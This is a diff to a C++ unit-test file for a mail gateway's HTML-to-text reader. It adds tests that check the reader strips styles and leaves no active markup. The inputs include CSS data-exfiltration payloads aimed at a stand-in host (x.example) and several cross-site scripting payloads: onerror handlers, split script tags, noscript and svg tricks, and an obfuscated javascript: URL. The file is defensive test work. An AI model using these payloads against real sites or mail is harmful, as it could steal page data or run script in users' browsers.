@@ -1,8 +1,12 @@
 #include "gateway/channels/mail/html_text.h"
 
+#include <algorithm>
 #include <string>
+#include <utility>
 
 #include <gtest/gtest.h>
+
+#include "gateway/http/html.h"
 
 namespace mugugno::gateway::mail {
 namespace {
@@ -40,6 +44,32 @@ TEST(HtmlText, WhatABrowserHidesIsLeftOut) {
   EXPECT_EQ(Read("<p style='mso-hide:all'>x<p>y"), "y");
   EXPECT_EQ(Read("<div style='max-height:0px;overflow:hidden'>x</div>y"), "y");
   EXPECT_EQ(Read("<div style='max-height:0.5em'>x</div>y"), "x\ny");
+}
+
+// S51: a style sheet could send what stands on a page elsewhere, letter by letter.
+TEST(HtmlText, S51NothingOfAStyleIsLeft) {
+  for (const char* html :
+       {"<style>input[value^=a]{background:url(//x.example/a)}</style>a",
+        "<link rel=stylesheet href='https://x.example/x.css'>a",
+        "<div style='background:url(https://x.example/a)'>a</div>",
+        "<style>@import 'https://x.example/x.css';</style>a", "<sTyLe\n>x</STYLE >a"}) {
+    EXPECT_EQ(Read(html), "a") << html;
+  }
+}
+
+// S52: tags within tags can come out as what looks like a tag. It is text, and a page shows it as
+// text.
+TEST(HtmlText, S52WhatLooksLikeATagAfterReadingIsTextOnAPage) {
+  for (const char* html :
+       {"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<b>script>alert(1)<</b>/script>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=a()&amp;gt;",
+        "<img src=x onerror=alert(1)//", "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+        "<a href='java&#10;script:alert(1)'>x</a>", "<!--><img src=x onerror=alert(1)>-->"}) {
+    const std::string page = std::move(Html().Leaf("p", {}, Read(html))).Finish();
+    EXPECT_EQ(std::count(page.begin(), page.end(), '<'), 3) << page;
+    EXPECT_EQ(page.find("javascript:"), std::string::npos) << page;
+  }
 }
 
 TEST(HtmlText, QuotedBlocksAreMarkedLineByLine) {
